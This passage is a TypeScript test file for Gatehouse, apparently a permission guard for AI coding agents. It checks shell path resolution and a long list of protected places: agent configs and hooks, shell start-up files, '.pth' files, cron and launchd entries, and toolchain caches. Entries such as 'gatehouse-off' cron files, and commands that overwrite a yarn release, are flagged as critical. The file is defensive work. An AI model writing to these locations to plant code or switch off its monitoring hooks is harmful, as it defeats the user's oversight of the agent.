import { testPathContext } from '../../../../support/path-context';
import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { RuleRecord } from '../../../../../shared/domain';
import { loadBashParser } from '../../../../../shared/node/bash-parser';
import { createGitHooksPaths, hooksPathIn } from '../../../../../shared/node/git-hooks-path';
import { createPackageManagerPrograms } from '../../../../../shared/node/package-manager-programs';
import { createPathResolver } from '../../../../../shared/node/path-resolver';
import { configHomesIn } from '../../../../../shared/policy/config-homes';
import { protectedLocation, specialDevice } from '../../../../../shared/policy/protected-locations';
import { plainPath } from '../../../../../shared/tools/action-spec';
import { agentToolAction } from '../../../../../shared/tools/agent-tools';
import { scanCommandPaths } from '../../../../../shared/tools/shell-paths';
import type { ShellParser } from '../../../../../shared/tools/shell-syntax';
import {
  classifyAction,
  type ActionDescription,
} from '../../../../../main/engine/policy/classifier';
import type { PathContext } from '../../../../../main/engine/policy/protected-paths';

/** A fake user: home, Gatehouse's data dir under it, a project, symlinks. */
const root = realpathSync(mkdtempSync(join(tmpdir(), 'gatehouse-resolve-')));
const home = join(root, 'home');
const data = join(home, '.local/share/gatehouse');
const project = join(home, 'code/app');
const elsewhere = join(root, 'elsewhere/deep/er');
let shell: ShellParser;
let paths: PathContext;
const empty = new Map<string, string[]>();
const resolver = createPathResolver({
  home,
  gatehouseHome: data,
  userHome: (name) => (name === 'alice' ? home : undefined),
});

beforeAll(async () => {
  for (const d of [data, project, elsewhere, join(project, '.claude'), join(project, 'sub')])
    mkdirSync(d, { recursive: true });
  writeFileSync(join(data, 'admin.token'), 'secret');
  // `deep` → a folder two levels under root: `deep/..` is root/elsewhere/deep, not the project.
  symlinkSync(elsewhere, join(project, 'deep'));
  symlinkSync(join(project, '.claude'), join(project, 'conf'));
  mkdirSync(join(project, '.git/hooks'), { recursive: true });
  writeFileSync(join(project, '.git/config'), '[core]\n\thooksPath = tools/hooks\n');
  // A Yarn project whose release is kept outside `.yarn/`, and a yarn 1 one below it.
  mkdirSync(join(project, 'yarnapp/web'), { recursive: true });
  writeFileSync(join(project, 'yarnapp/.yarnrc.yml'), 'yarnPath: "./tools/yarn-4.cjs"\n');
  writeFileSync(join(project, 'yarnapp/web/.yarnrc'), 'yarn-path ../classic/yarn.js\n');
  shell = await loadBashParser();
  paths = {
    ...testPathContext({ root, home, data, shell, resolver }),
    gitHooksPaths: createGitHooksPaths(home, {}),
    packageManagerPrograms: createPackageManagerPrograms(home),
  };
});

const allowAll: RuleRecord[] = ['read_file', 'run_command', 'write_file', 'edit_file'].map(
  (action) => ({
    ruleId: `r-${action}`,
    action,
    tier: 'auto',
    source: 'user',
    createdAt: '2026-01-01T00:00:00.000Z',
  }),
);
const classify = (a: ActionDescription, rules: RuleRecord[] = allowAll) =>
  classifyAction(a, { project, rules, paths: { ...paths, cwd: project } });
const bash = (command: string, rules?: RuleRecord[]) =>
  classify({ action: 'run_command', command }, rules);

describe('the resolver expands words as the shell does', () => {
  const r = (word: string, cwds = [project]) => resolver.resolve(word, { cwds, vars: empty });
  it('~, ~user, $HOME, ${HOME}, $PWD and an unknown user', () => {
    expect(r('~/x').paths[0]!.lexical).toBe(`${home}/x`);
    expect(r('~alice/x').paths[0]!.lexical).toBe(`${home}/x`);
    expect(r('${HOME}/x').paths[0]!.lexical).toBe(`${home}/x`);
    expect(r('$PWD/x').paths[0]!.lexical).toBe(`${project}/x`);
    expect(r('~nosuchuser/x').unresolved).toMatch(/~nosuchuser names no home/);
  });

  it.each([
    ['$X/y', /\$X is not known/],
    ['${X:-/etc}/y', /\$\{X:-\/etc\} is only known when the command runs/],
    ['$(pwd)/y', /only known when the command runs/],
    ['`pwd`/y', /only known when the command runs/],
    ['$1', /only known/],
    ['$OLDPWD/x', /\$OLDPWD is not known/],
  ])('%s is unresolvable', (word, why) => {
    expect(r(word).unresolved).toMatch(why);
  });

  it('a quoted $ is a plain character', () => {
    const q = resolver.resolve('$X/y', { cwds: [project], vars: empty, literal: true });
    expect(q).toMatchObject({ paths: [{ lexical: `${project}/$X/y` }] });
  });

  it('.. after a symlink goes to the target’s parent, as the kernel does; // collapses', () => {
    expect(r('deep/..').paths[0]).toMatchObject({
      lexical: project,
      real: join(root, 'elsewhere/deep'),
    });
    expect(r('conf//settings.json').paths[0]!.real).toBe(join(project, '.claude/settings.json'));
  });

  it('a file taken for a folder is a path that does not exist, as the kernel says (ENOTDIR)', () => {
    // lstat of `file/x` throws ENOTDIR, which `throwIfNoEntry` does not spare: each of these
    // ended the agent's call in an internal error, and the hook then fell back.
    const file = join(project, 'sub/notes.txt');
    writeFileSync(file, 'x');
    expect(r('sub/notes.txt/x').paths[0]).toMatchObject({
      lexical: `${file}/x`,
      real: `${file}/x`,
    });
    expect(r('sub/notes.txt/../notes.txt').paths[0]!.lexical).toBe(file);
    // The shell's `*` matches the file too; `*/x` under it matches nothing there.
    expect(r('sub/*/x').paths.map((p) => p.lexical)).toEqual([join(project, 'sub/*/x')]);
    expect(resolver.isDirectory!(`${file}/x`)).toBe(false);
    expect(resolver.listTree!(`${file}/x`, true)).toBeUndefined();
    expect(bash('cat sub/notes.txt/x; ls sub/*/x')).toMatchObject({ tier: 'auto' });
  });

  it('/proc links are not followed, braces and globs expand', () => {
    expect(r('/proc/self/cwd').paths[0]!.real).toBe('/proc/self/cwd');
    expect(r('.{claude,x}/s.json').paths.map((p) => p.lexical)).toEqual([
      join(project, '.{claude,x}/s.json'),
      join(project, '.claude/s.json'),
      join(project, '.x/s.json'),
    ]);
    const glob = r('.cl*').paths.map((p) => p.real);
    expect(glob).toContain(join(project, '.claude'));
  });
});

describe('the working directory follows each cd', () => {
  const scan = (command: string) =>
    scanCommandPaths(command, shell.analyse(command), [project], resolver);
  it('in order, cd a && cd b is a/b', () => {
    const s = scan('cd sub && cd ../.claude && cat settings.json');
    // Each cd is taken from every directory the line may be in by then (a set that grows).
    expect(s.cwds).toEqual([
      project,
      join(project, 'sub'),
      join(home, 'code/.claude'),
      join(project, '.claude'),
    ]);
    const use = s.uses.find((u) => u.word === 'settings.json')!;
    expect(use.paths.map((p) => p.real)).toContain(join(project, '.claude/settings.json'));
  });
  it('cd with an unknown target, or in a loop going ever deeper, is unresolvable', () => {
    expect(scan('cd $DIR && ls').unresolved?.reason).toMatch(/\$DIR is not known/);
    expect(scan('while true; do cd sub; done').unresolved?.reason).toMatch(/further each time/);
    expect(scan('for d in a b; do cat x; done').unresolved).toBeUndefined();
  });
  it('$PWD and $OLDPWD after a cd', () => {
    const s = scan('cd sub && cat $OLDPWD/a $PWD/b');
    expect(s.unresolved).toBeUndefined();
    const all = s.uses.flatMap((u) => u.paths.map((p) => p.lexical));
    expect(all).toContain(join(project, 'a'));
    expect(all).toContain(join(project, 'sub/b'));
  });
});

describe('protected locations (one table, one matcher)', () => {
  it.each([
    [`${project}/.claude/settings.json`, 'agent_config'],
    [`${project}/.claude/settings.local.json`, 'agent_config'],
    [`${home}/.claude/settings.json`, 'agent_config'],
    [`${project}/.claude/skills/x/SKILL.md`, 'agent_config'],
    [`${project}/.claude/commands/go.md`, 'agent_config'],
    [`${project}/.mcp.json`, 'agent_config'],
    [`${home}/.claude.json`, 'agent_config'],
    [`${home}/.codex/config.toml`, 'agent_config'],
    [`${project}/.codex/hooks.json`, 'agent_config'],
    [`${project}/.gemini/settings.json`, 'agent_config'],
    [`${home}/.gemini/settings.json`, 'agent_config'],
    [`${home}/.gemini/trustedFolders.json`, 'agent_config'],
    [`${project}/.github/hooks/gatehouse.json`, 'agent_config'],
    [`${home}/.copilot/config.json`, 'agent_config'],
    [`${project}/opencode.json`, 'agent_config'],
    [`${project}/.opencode/plugin/x.js`, 'agent_config'],
    [`${home}/.config/opencode/opencode.json`, 'agent_config'],
    [`${project}/.cursor/hooks.json`, 'agent_config'],
    [`${home}/.cursor/mcp.json`, 'agent_config'],
    // Loaded into Gemini CLI's (and Codex's) environment, which its hooks inherit.
    [`${project}/.env`, 'agent_config'],
    [`${project}/.gemini/.env`, 'agent_config'],
    [`${home}/.env`, 'agent_config'],
    [`${home}/.codex/.env`, 'agent_config'],
    [`${project}/.gatehouse.toml`, 'gatehouse_policy'],
    [`${project}/.git/config`, 'vcs'],
    [`${project}/.git/hooks/pre-commit`, 'vcs'],
    [`${project}/.git/info/attributes`, 'vcs'],
    [`${root}/remote.git/hooks/post-receive`, 'vcs'],
    [`${project}/.husky/pre-commit`, 'vcs'],
    [`${project}/.pre-commit-config.yaml`, 'vcs'],
    [`${project}/.gitattributes`, 'vcs'],
    [`${home}/.bashrc`, 'startup'],
    [`${home}/.zshenv`, 'startup'],
    [`${home}/.profile`, 'startup'],
    [`${home}/.config/fish/config.fish`, 'startup'],
    [`${home}/.npmrc`, 'startup'],
    [`${project}/.npmrc`, 'startup'],
    // What VS Code runs from a trusted folder's settings and tasks; a dev container's host command.
    [`${project}/.vscode/settings.json`, 'startup'],
    [`${project}/.vscode/tasks.json`, 'startup'],
    [`${project}/.vscode`, 'agent_config'],
    [`${project}/.devcontainer/devcontainer.json`, 'startup'],
    [`${project}/.devcontainer.json`, 'startup'],
    [`${project}/app.code-workspace`, 'startup'],
    [`${home}/.gitconfig`, 'startup'],
    [`${home}/.config/git/config`, 'startup'],
    [`${home}/.ssh/config`, 'startup'],
    [`${home}/.cargo/config.toml`, 'startup'],
    [`${home}/.local/bin/git`, 'startup'],
    [`${home}/bin/git`, 'startup'],
    [`${home}/bin`, 'startup'],
    // What every Python start, or the shell's start-up files and PATH, run from the home.
    [`${home}/.local/lib/python3.11/site-packages/evil.pth`, 'startup'],
    [`${home}/.local/lib/python3.11/site-packages/usercustomize.py`, 'startup'],
    [`${home}/Library/Python/3.12/lib/python/site-packages/evil.pth`, 'startup'],
    [`${home}/.pyenv/shims/python3`, 'startup'],
    [`${home}/.pyenv/versions/3.11.7/lib/python3.11/site-packages/evil.pth`, 'startup'],
    [`${home}/.nvm/nvm.sh`, 'startup'],
    [`${home}/.nvm/versions/node/v20.20.0/lib/node_modules/npm/bin/npm-cli.js`, 'startup'],
    [`${home}/.cargo/env`, 'startup'],
    [`${home}/.cargo/bin/cargo`, 'startup'],
    [`${home}/.rustup/toolchains/stable/bin/rustc`, 'startup'],
    [`${home}/.sdkman/bin/sdkman-init.sh`, 'startup'],
    [`${home}/miniconda3/etc/profile.d/conda.sh`, 'startup'],
    [`${home}/go/bin/gopls`, 'startup'],
    [`${home}/.local/share/pnpm/pnpm`, 'startup'],
    [`${home}/.npm/_npx/0a1b2c/node_modules/prettier/bin/prettier.cjs`, 'startup'],
    [`${home}/.cache/node/corepack/v1/pnpm/9.15.0/bin/pnpm.cjs`, 'startup'],
    // Build tools' caches: what every project's build compiles and runs.
    [
      `${home}/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde-1.0.0/build.rs`,
      'startup',
    ],
    [`${home}/.cargo/git/checkouts/dep-0a1b/abc/src/lib.rs`, 'startup'],
    [`${home}/go/pkg/mod/github.com/x/y@v1.0.0/y.go`, 'startup'],
    [`${home}/.cache/go-build/0a/0a1b-d`, 'startup'],
    [`${home}/.m2/repository/org/x/x/1.0/x-1.0.jar`, 'startup'],
    [`${home}/.gradle/caches/modules-2/files-2.1/x/x.jar`, 'startup'],
    [`${home}/.gradle/wrapper/dists/gradle-8.5-bin/x/gradle-8.5/bin/gradle`, 'startup'],
    [`${home}/.cache/pre-commit/repoabc/hooks/check.py`, 'startup'],
    // Tools whose links stand on the PATH, and environments the person's shell activates.
    [`${home}/.local/pipx/venvs/black/bin/black`, 'startup'],
    [
      `${home}/.local/share/pipx/venvs/black/lib/python3.11/site-packages/black/__init__.py`,
      'startup',
    ],
    [`${home}/.local/share/uv/tools/ruff/bin/ruff`, 'startup'],
    [`${home}/.npm-global/lib/node_modules/tsx/dist/cli.mjs`, 'startup'],
    [`${home}/.npm-global/bin/tsx`, 'startup'],
    [`${home}/.npm-global/etc/npmrc`, 'startup'],
    [`${home}/.config/yarn/global/node_modules/x/index.js`, 'startup'],
    [`${home}/.nodenv/versions/20.0.0/bin/node`, 'startup'],
    [`${home}/.virtualenvs/postactivate`, 'startup'],
    [`${home}/.local/share/virtualenvs/app-0a1b/bin/activate`, 'startup'],
    // What an interactive shell or an editor loads when the person starts it.
    [`${home}/.bash_completion`, 'startup'],
    [`${home}/.local/share/bash-completion/completions/git`, 'startup'],
    [`${home}/.local/share/fish/vendor_conf.d/x.fish`, 'startup'],
    [`${home}/.local/share/nvim/lazy/plugin/init.lua`, 'startup'],
    [`${home}/.vscode/extensions/pub.ext-1.0.0/out/extension.js`, 'startup'],
    [`${home}/.vscode-server/bin/abc/node`, 'startup'],
    // Cursor's whole folder is its agent's configuration already.
    [`${home}/.cursor/extensions/pub.ext-1.0.0/extension.js`, 'agent_config'],
    [`${home}/.config/Code/User/settings.json`, 'startup'],
    // More tools on the PATH, and what they run.
    [`${home}/.dotnet/tools/dotnet-ef`, 'startup'],
    [`${home}/.config/composer/vendor/bin/phpunit`, 'startup'],
    [`${home}/.composer/vendor/autoload.php`, 'startup'],
    [`${home}/.gem/ruby/3.2.0/gems/rake-13.0.0/lib/rake.rb`, 'startup'],
    [`${home}/.rvm/scripts/rvm`, 'startup'],
    [`${home}/.ghcup/bin/ghc`, 'startup'],
    [`${home}/.cabal/bin/hlint`, 'startup'],
    [`${home}/.opam/default/bin/ocaml`, 'startup'],
    [`${home}/.nix-profile`, 'startup'],
    [`${home}/.config/composer`, 'agent_config'],
    [`${home}/.dotnet`, 'agent_config'],
    // What an interpreter, database client or graphical session runs when it starts.
    [`${home}/.Rprofile`, 'startup'],
    [`${home}/.ipython/profile_default/startup/00-x.py`, 'startup'],
    [`${home}/.jupyter/jupyter_server_config.py`, 'startup'],
    [`${home}/.julia/config/startup.jl`, 'startup'],
    [`${home}/.psqlrc`, 'startup'],
    [`${home}/.sqliterc`, 'startup'],
    [`${home}/.xsessionrc`, 'startup'],
    [`${home}/.config/i3/config`, 'startup'],
    [`${home}/.wezterm.lua`, 'startup'],
    [`${home}/.julia`, 'agent_config'],
    // A config naming a program its tool runs at each use.
    [`${home}/.aws/config`, 'startup'],
    [`${home}/.kube/config`, 'startup'],
    [`${home}/.docker/config.json`, 'startup'],
    [`${home}/.docker/cli-plugins/docker-compose`, 'startup'],
    [`${home}/.terraformrc`, 'startup'],
    [`${home}/.gnupg/gpg-agent.conf`, 'startup'],
    // Replacing a folder that holds them (a link elsewhere) moves what they hold.
    [`${home}/.local/lib`, 'agent_config'],
    [`${home}/.local/lib/python3.11`, 'agent_config'],
    [`${home}/Library/Python/3.12/lib`, 'agent_config'],
    [`${home}/.npm`, 'agent_config'],
    [`${home}/.cache/node`, 'agent_config'],
    [`${home}/go/pkg`, 'agent_config'],
    [`${home}/.aws`, 'agent_config'],
    [`${home}/.vscode`, 'agent_config'],
    [`${home}/.config/Code`, 'agent_config'],
    [`${home}/.local/share/fish`, 'agent_config'],
    // Yarn Berry's release and plugins (every yarn command), its editor SDKs, the Plug'n'Play
    // loader every `yarn run` requires, and the environment file it loads into scripts.
    [`${project}/.yarn/releases/yarn-4.5.0.cjs`, 'startup'],
    [`${project}/.yarn/releases`, 'startup'],
    [`${project}/.yarn/plugins/@yarnpkg/plugin-x.cjs`, 'startup'],
    [`${project}/packages/web/.yarn/sdks/typescript/lib/tsserver.js`, 'startup'],
    [`${project}/.pnp.cjs`, 'startup'],
    [`${project}/.pnp.loader.mjs`, 'startup'],
    [`${project}/.pnp.data.json`, 'startup'],
    [`${project}/.env.yarn`, 'startup'],
    // mise runs a config's hooks and `_.source` scripts when a shell enters its folder.
    [`${project}/mise.toml`, 'startup'],
    [`${project}/.mise.toml`, 'startup'],
    [`${project}/mise.local.toml`, 'startup'],
    [`${project}/.config/mise.toml`, 'startup'],
    [`${project}/.mise/config.toml`, 'startup'],
    [`${home}/.config/mise/config.toml`, 'startup'],
    // What a shell, prompt, editor, tmux, gdb or less loads when the person starts it.
    [`${home}/.bash_aliases`, 'startup'],
    [`${home}/.bashrc.d/10-env.sh`, 'startup'],
    [`${home}/.oh-my-zsh/custom/aliases.zsh`, 'startup'],
    [`${home}/.config/starship.toml`, 'startup'],
    [`${home}/.vimrc`, 'startup'],
    [`${home}/.vim/plugin/x.vim`, 'startup'],
    [`${home}/.config/nvim/init.lua`, 'startup'],
    [`${home}/.emacs.d/init.el`, 'startup'],
    [`${home}/.tmux.conf`, 'startup'],
    [`${home}/.gdbinit`, 'startup'],
    [`${home}/.config/lesskey`, 'startup'],
    // What Claude Code and Codex run before each of their shell commands.
    [`${home}/.claude/shell-snapshots/snapshot-bash-1764250000-ab12cd.sh`, 'startup'],
    [`${home}/.claude/shell-snapshots`, 'startup'],
    [`${home}/.claude/session-env/0f9e/sessionstart-hook-0.sh`, 'startup'],
    [`${home}/.claude/rm-guard/rm`, 'startup'],
    [`${home}/.codex/shell_snapshots/019a.sh`, 'startup'],
    // Claude Code's global config, its login variants and the legacy one in its folder.
    [`${home}/.claude.json`, 'agent_config'],
    [`${home}/.claude-custom-oauth.json`, 'agent_config'],
    [`${home}/.claude/.config.json`, 'agent_config'],
    [home, 'startup'],
  ])('%s is %s', (path, kind) => {
    expect(protectedLocation(path, home)).toMatchObject({ kind });
  });

  it('a config folder moved by the environment is protected as the one it stands for', () => {
    const homes = {
      CODEX_HOME: '/srv/tools/codex',
      CLAUDE_CONFIG_DIR: `${home}/work/claude-config`,
      XDG_CONFIG_HOME: `${home}/cfg`,
    };
    const at = (path: string) => protectedLocation(path, home, false, [], homes)?.kind;
    expect(at('/srv/tools/codex/hooks.json')).toBe('agent_config');
    expect(at('/srv/tools/codex/config.toml')).toBe('agent_config');
    expect(at('/srv/tools/codex/shell_snapshots/1.sh')).toBe('startup');
    expect(at('/srv/tools/codex')).toBe('agent_config');
    expect(at(`${home}/work/claude-config/settings.json`)).toBe('agent_config');
    expect(at(`${home}/work/claude-config/shell-snapshots/s.sh`)).toBe('startup');
    // Claude Code keeps its global config inside a moved CLAUDE_CONFIG_DIR, not in the home.
    expect(at(`${home}/work/claude-config/.claude.json`)).toBe('agent_config');
    expect(at(`${home}/work/claude-config/.config.json`)).toBe('agent_config');
    // Copilot CLI's user hooks and settings where COPILOT_HOME moves them.
    expect(
      protectedLocation('/opt/cop/hooks/team.json', home, false, [], { COPILOT_HOME: '/opt/cop' }),
    ).toMatchObject({ kind: 'agent_config' });
    expect(at(`${home}/cfg/opencode/plugin/gatehouse.js`)).toBe('agent_config');
    expect(at(`${home}/cfg/git/config`)).toBe('startup');
    // Not moved, or not a protected file there: as before.
    expect(at('/srv/tools/codex/sessions/2026/log.jsonl')).toBeUndefined();
    expect(at('/srv/tools/codex-notes/hooks.json')).toBeUndefined();
    expect(protectedLocation('/srv/tools/codex/hooks.json', home)).toBeUndefined();
    expect(at(`${home}/.codex/hooks.json`)).toBe('agent_config');
  });

  /** Every variable's folder or file moved under /srv, as an agent's environment may set them. */
  const movedHomes = {
    OPENCODE_CONFIG: '/srv/oc.json',
    OPENCODE_CONFIG_DIR: '/srv/oc-extra',
    GEMINI_CLI_SYSTEM_SETTINGS_PATH: '/srv/gemini-system.json',
    GEMINI_CLI_SYSTEM_DEFAULTS_PATH: '/srv/gemini-defaults.json',
    BASH_ENV: '/srv/env.sh',
    ZDOTDIR: '/srv/zsh',
    GIT_CONFIG_GLOBAL: '/srv/git.cfg',
    PYTHONUSERBASE: '/srv/py',
    PYENV_ROOT: '/srv/pyenv',
    NVM_DIR: '/srv/nvm',
    CARGO_HOME: '/srv/cargo',
    RUSTUP_HOME: '/srv/rustup',
    AWS_CONFIG_FILE: '/srv/aws.cfg',
    DOCKER_CONFIG: '/srv/docker',
    GNUPGHOME: '/srv/gnupg',
    GOMODCACHE: '/srv/gomod',
    GOCACHE: '/srv/gobuild',
    GRADLE_USER_HOME: '/srv/gradle',
    PRE_COMMIT_HOME: '/srv/pre-commit',
    WORKON_HOME: '/srv/venvs',
    PIPX_HOME: '/srv/pipx',
    // npm's global prefix, often a shared folder: only what npm installs and runs there.
    NPM_CONFIG_PREFIX: '/srv/npm:/srv/shared',
    // A list of files, each a kubeconfig that can name a plugin kubectl runs.
    KUBECONFIG: '/srv/k8s/dev.yaml:/srv/k8s/prod.yaml',
  };

  it.each([
    ['/srv/oc.json', 'agent_config'],
    ['/srv/oc-extra/plugin/own.js', 'agent_config'],
    ['/srv/gemini-system.json', 'agent_config'],
    ['/srv/gemini-defaults.json', 'agent_config'],
    ['/srv/oc.json.bak', undefined],
    ['/srv/env.sh', 'startup'],
    ['/srv/zsh/.zshenv', 'startup'],
    ['/srv/zsh/notes.txt', undefined],
    ['/srv/git.cfg', 'startup'],
    ['/srv/py/lib/python3.11/site-packages/evil.pth', 'startup'],
    ['/srv/py/bin/git', 'startup'],
    ['/srv/py/notes.txt', undefined],
    ['/srv/pyenv/shims/python', 'startup'],
    ['/srv/nvm/nvm.sh', 'startup'],
    ['/srv/cargo/config.toml', 'startup'],
    ['/srv/cargo/env', 'startup'],
    // The crate sources every project's build compiles, build.rs included.
    ['/srv/cargo/registry/src/x/build.rs', 'startup'],
    ['/srv/cargo/.package-cache', undefined],
    ['/srv/rustup/toolchains/stable/bin/cargo', 'startup'],
    ['/srv/aws.cfg', 'startup'],
    ['/srv/docker/config.json', 'startup'],
    ['/srv/docker/cli-plugins/docker-x', 'startup'],
    ['/srv/docker/buildx/x.json', undefined],
    ['/srv/gnupg/gpg-agent.conf', 'startup'],
    ['/srv/gomod/github.com/x/y@v1/y.go', 'startup'],
    ['/srv/gobuild/0a/0a1b-d', 'startup'],
    ['/srv/gradle/init.d/x.gradle', 'startup'],
    ['/srv/gradle/caches/x.jar', 'startup'],
    ['/srv/pre-commit/repo/hook.py', 'startup'],
    ['/srv/venvs/app/bin/activate', 'startup'],
    ['/srv/pipx/venvs/black/bin/black', 'startup'],
    ['/srv/k8s/dev.yaml', 'startup'],
    ['/srv/k8s/prod.yaml', 'startup'],
    ['/srv/k8s/notes.txt', undefined],
    ['/srv/npm/lib/node_modules/tsx/dist/cli.mjs', 'startup'],
    ['/srv/npm/bin/tsx', 'startup'],
    ['/srv/npm/etc/npmrc', 'startup'],
    ['/srv/npm/lib', 'agent_config'],
    ['/srv/shared/lib/node_modules/npm/lib/cli.js', 'startup'],
    ['/srv/shared/share/notes.txt', undefined],
    ['/srv/other.json', undefined],
  ] as const)(
    '%s, where an environment variable moves a config file or folder, is protected as the one it stands for: %s',
    (path, kind) => {
      expect(protectedLocation(path, home, false, [], movedHomes)?.kind).toBe(kind);
    },
  );

  it.each([
    '/etc/claude-code/managed-settings.json',
    '/etc/claude-code/managed-settings.d/10-hooks.json',
    '/etc/codex/requirements.toml',
    '/etc/codex/managed_config.toml',
    '/etc/gemini-cli/settings.json',
    '/etc/opencode/opencode.json',
    '/etc/claude-code',
    '/Library/Application Support/ClaudeCode/managed-settings.json',
    'C:/ProgramData/gemini-cli/settings.json',
  ])("an agent CLI's system-wide settings %s are protected", (path) => {
    expect(protectedLocation(path, home)).toMatchObject({ kind: 'agent_config' });
  });

  it.each([
    '/etc/gitconfig',
    '/etc/bash.bashrc',
    '/etc/profile',
    '/etc/profile.d/gatehouse-off.sh',
    '/etc/zsh/zshenv',
    '/etc/ld.so.preload',
    '/usr/local/bin/git',
    '/usr/bin/ls',
    '/bin/sh',
    '/usr/sbin',
    '/etc/ld.so.conf',
    '/etc/ld.so.conf.d/evil.conf',
    '/usr/lib/x86_64-linux-gnu/libc.so.6',
    '/lib64/ld-linux-x86-64.so.2',
    '/usr/local/lib/python3.11/dist-packages/evil.pth',
    '/usr/lib/python3/dist-packages/sitecustomize.py',
    '/usr/local/lib/node_modules/npm/bin/npm-cli.js',
    '/etc/python3.11/sitecustomize.py',
    '/usr/libexec/git-core/git-status',
    // What cron, systemd, init, the desktop's autostart and launchd start on their own.
    '/etc/crontab',
    '/etc/cron.d/gatehouse-off',
    '/etc/cron.hourly/x',
    '/var/spool/cron/crontabs/root',
    '/etc/systemd/system/x.service',
    '/etc/init.d/x',
    '/etc/rc.local',
    '/etc/xdg/autostart/x.desktop',
    '/Library/LaunchDaemons/x.plist',
    '/Library/LaunchAgents/x.plist',
    // Homebrew's, which the user owns: the programs its links on the PATH point to.
    '/opt/homebrew/Cellar/git/2.43.0/bin/git',
    '/opt/homebrew/lib/python3.12/site-packages/evil.pth',
    '/opt/homebrew/opt/git',
    '/home/linuxbrew/.linuxbrew/Cellar/git/2.43.0/bin/git',
    '/usr/local/Cellar/git/2.43.0/bin/git',
  ])("the system's start-up file, PATH folder or library %s is protected (root agents)", (path) => {
    expect(protectedLocation(path, home)).toMatchObject({ kind: 'startup' });
  });

  it('on a file system without case (macOS, Windows) the entries with capitals match too', () => {
    const mac = '/Users/me';
    const at = (path: string) => protectedLocation(path, mac, true)?.kind;
    for (const path of [
      `${mac}/Library/Python/3.12/lib/python/site-packages/evil.pth`,
      `${mac}/library/python/3.12/lib/python/site-packages/evil.pth`,
      `${mac}/Library/LaunchAgents/com.x.plist`,
      `${mac}/Library/Application Support/Code/User/settings.json`,
      `${mac}/.config/Code/User/settings.json`,
      `${mac}/.Bashrc`,
      '/Library/LaunchDaemons/x.plist',
      '/library/launchagents/x.plist',
    ])
      expect(at(path), path).toBe('startup');
    // Holders, as written and in any case.
    expect(at(`${mac}/Library/Python/3.12/lib`)).toBe('agent_config');
    expect(at(`${mac}/Library/Application Support/Code`)).toBe('agent_config');
    expect(at(`${mac}/Library/Caches/x`)).toBeUndefined();
  });

  it('the config homes of an environment: absolute ones only', () => {
    expect(
      configHomesIn({ CODEX_HOME: '/a/codex', XDG_CONFIG_HOME: 'rel/cfg', HOME: '/h' }),
    ).toEqual({ CODEX_HOME: '/a/codex' });
    // A list keeps its absolute entries, none in /dev or /proc.
    expect(configHomesIn({ KUBECONFIG: '/a/k.yaml:rel.yaml::/dev/null:/b/k.yaml' })).toEqual({
      KUBECONFIG: '/a/k.yaml:/b/k.yaml',
    });
    expect(configHomesIn({ KUBECONFIG: 'rel.yaml' })).toEqual({});
    // CI's GIT_CONFIG_GLOBAL=/dev/null names no file: writing /dev/null stays ordinary.
    expect(configHomesIn({ GIT_CONFIG_GLOBAL: '/dev/null', BASH_ENV: '//proc/self/fd/3' })).toEqual(
      {},
    );
  });

  it.each([
    '/etc/codex-notes.txt',
    '/etc/hosts',
    '/usr/share/doc/git/README',
    '/usr/local/binaries.txt',
    '/usr/library/notes.txt',
    '/etc/ld.so.cache',
    '/etc/python.txt',
    '/etc/cron-notes.txt',
    '/opt/homebrew/var/postgresql@16/postgresql.conf',
    '/opt/homebrew-notes.txt',
    '/etc/systemd-notes.txt',
    '/var/spool/mail/root',
    `${home}/.local/lib/notes.txt`,
    `${home}/.local/share/gatehouse-notes.txt`,
    `${home}/code/go/bin/tool`,
    `${home}/code/bin/tool`,
    `${home}/binaries/x`,
    `${home}/.cargo/.package-cache`,
    `${home}/go/src/x/main.go`,
    `${home}/.gradle/daemon/8.5/daemon.log`,
    `${home}/.cache/pip/http/x`,
    `${home}/.aws/cli/cache/x.json`,
    `${home}/.julia/packages/X/abc/src/X.jl`,
    `${home}/.dotnet/corefx/cryptography/x509stores/my/x.pfx`,
    `${home}/.cabal/packages/hackage.haskell.org/01-index.tar`,
    `${home}/.config/i3status-notes.txt`,
    `${home}/.kube/cache/discovery/x.json`,
    `${home}/.local/share/fish/fish_history`,
    `${home}/.config/Code/logs/x.log`,
    `${project}/.vscode/extensions.json`,
    // Runs only when the person starts it (F5), as a Makefile does.
    `${project}/.vscode/launch.json`,
    `${project}/docs/devcontainer.md`,
    `${home}/.npm/_logs/debug.log`,
    `${home}/.cache/node/other.txt`,
    '/etc/profile.bak',
    `${project}/src/settings.json`,
    `${project}/.claude/notes.md`,
    `${home}/.claude/shell-snapshots-notes.md`,
    `${home}/.claude/projects/x/session.jsonl`,
    `${project}/README.md`,
    `${project}/.github/workflows/ci.yml`,
    `${home}/code/other/bashrc`,
    `${project}/.env.example`,
    `${project}/src/environment.ts`,
    `${project}/promise.toml`,
    `${project}/src/mise.ts`,
    // An editor's config in a project is not read unless the person opts in (vim's exrc).
    `${project}/.vimrc`,
    `${home}/.vimrc.bak`,
    // Yarn's cache and install state are data; a test run's packages are watched instead.
    `${project}/.yarn/cache/react-npm-18.3.1-abc.zip`,
    `${project}/.yarn/install-state.gz`,
    `${project}/.yarn`,
    `${project}/yarn.lock`,
    `${project}/src/pnp.ts`,
  ])('%s is not protected', (path) => {
    expect(protectedLocation(path, home)).toBeUndefined();
  });

  it('core.hooksPath targets are read from the repository config', () => {
    expect(hooksPathIn(join(project, '.git/config'))).toBe('tools/hooks');
    expect(paths.gitHooksPaths!([join(project, 'src')])).toEqual([join(project, 'tools/hooks')]);
  });

  it.each([
    ['echo x > yarnapp/tools/yarn-4.cjs', 'protected:startup_config'],
    ['cd yarnapp/tools && cp /dev/null ./yarn-4.cjs', 'protected:startup_config'],
    ['cd yarnapp/web && sed -i s/a/b/ ../classic/yarn.js', 'protected:startup_config'],
    ['echo x > yarnapp/web/.yarn/releases/yarn-1.22.22.cjs', 'protected:startup_config'],
    // Replacing the folder replaces the release in it.
    ['rm -rf yarnapp/tools', 'protected:startup_config'],
    ['mv /tmp/x yarnapp/tools', 'protected:startup_config'],
    ['echo x > yarnapp/tools/*.cjs', 'protected:startup_config'],
  ])('%s: the release a yarnrc names asks (%s)', (command, rule) => {
    expect(bash(command)).toMatchObject({ tier: 'ask', rule, risk: 'critical' });
  });

  it.each([
    'echo x > yarnapp/tools/notes.md',
    'echo x > yarnapp/web/src.ts',
